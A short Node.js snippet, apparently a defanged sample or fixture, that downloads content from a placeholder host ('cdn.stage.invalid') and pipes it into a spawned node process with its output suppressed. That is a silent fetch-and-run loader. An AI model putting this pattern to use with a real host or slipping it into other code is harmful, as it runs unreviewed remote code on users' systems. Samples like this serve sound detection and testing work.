const { get } = require('https');
const { spawn } = require('child_process');

get('https://cdn.stage.invalid/build', (answer) => {
  const runner = spawn('/nonexistent/node', ['-'], { stdio: ['pipe', 'ignore', 'ignore'] });
  answer.pipe(runner.stdin);
});
